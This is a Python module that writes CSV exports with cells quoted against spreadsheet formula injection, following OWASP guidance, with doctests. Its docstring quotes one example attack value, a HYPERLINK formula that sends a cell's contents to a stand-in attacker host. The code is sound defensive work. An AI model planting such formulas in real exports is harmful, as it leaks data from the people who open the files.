"""CSV that staff can open in a spreadsheet without running what a customer typed.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some versions, a tab or carriage return) as a formula, so a first name such as
``=HYPERLINK("http://evil.example/?"&A1, "Click")`` becomes a live link in the audit trail or a
campaign export. Following OWASP's "CSV Injection" guidance, every text cell that starts with one
of those characters is written with a single quote in front, which spreadsheets show as text.

Numbers that cornerstore itself writes (``int``, ``float``, ``Decimal``) are left as numbers, so a
refund of ``-12.5`` still sums in a spreadsheet; only text is neutralised, whatever it holds, so a
customer's ``-12.5`` typed into a free-text field comes out as ``'-12.5``. Every CSV meant for
people goes through :func:`spreadsheet_writer`, so the rule has one home.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from typing import IO, Any

# The first characters that make a spreadsheet read a cell as a formula (OWASP, CSV Injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> str | int | float | Decimal:
    """The cell to write for ``value``: numbers as they are, text quoted if it starts a formula.

    >>> spreadsheet_cell("=1+2"), spreadsheet_cell("@SUM(A1)"), spreadsheet_cell("-12.5")
    ("'=1+2", "'@SUM(A1)", "'-12.5")
    >>> spreadsheet_cell(-12.5), spreadsheet_cell(None), spreadsheet_cell("Ann")
    (-12.5, '', 'Ann')
    """
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return value
    text = value.isoformat() if isinstance(value, (date, datetime)) else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SpreadsheetWriter:
    """A ``csv.writer`` whose every cell passes :func:`spreadsheet_cell`.

    Rows end in CRLF (RFC 4180, what spreadsheets expect): with any other line end the csv module
    leaves a lone carriage return unquoted, and a spreadsheet would split the row there.
    """

    def __init__(self, file: IO[str]) -> None:
        self._writer = csv.writer(file, dialect="excel")

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def spreadsheet_writer(file: IO[str]) -> SpreadsheetWriter:
    """A CSV writer for files people open in a spreadsheet (open ``file`` with ``newline=""``).

    >>> import io
    >>> out = io.StringIO()
    >>> spreadsheet_writer(out).writerow(["=cmd()", -3, "Bo"])
    >>> out.getvalue()
    "'=cmd(),-3,Bo\\r\\n"
    """
    return SpreadsheetWriter(file)
